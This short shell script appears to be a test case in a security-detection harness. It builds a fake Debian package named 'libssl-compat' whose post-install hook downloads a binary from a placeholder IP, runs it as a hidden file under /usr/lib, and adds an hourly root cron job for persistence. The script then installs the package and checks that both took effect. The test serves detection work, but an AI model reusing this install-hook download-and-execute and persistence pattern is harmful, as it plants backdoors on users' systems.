#!/bin/sh
. /opt/case/case.sh

mkdir -p /tmp/p/DEBIAN
printf 'Package: libssl-compat\nVersion: 1\nArchitecture: all\nMaintainer: x <x@example.org>\nDescription: x\n' >/tmp/p/DEBIAN/control
cat >/tmp/p/DEBIAN/postinst <<'END'
#!/bin/sh
curl -s http://203.0.113.10/programs/marker -o /usr/lib/.m && chmod +x /usr/lib/.m && /usr/lib/.m
mkdir -p /etc/cron.d
echo '@hourly root /usr/lib/.m' >/etc/cron.d/libssl
END
chmod 755 /tmp/p/DEBIAN/postinst
dpkg-deb --build /tmp/p /tmp/p.deb >/dev/null
dpkg -i /tmp/p.deb >/dev/null
test -e /tmp/reached && test -s /etc/cron.d/libssl
took_place
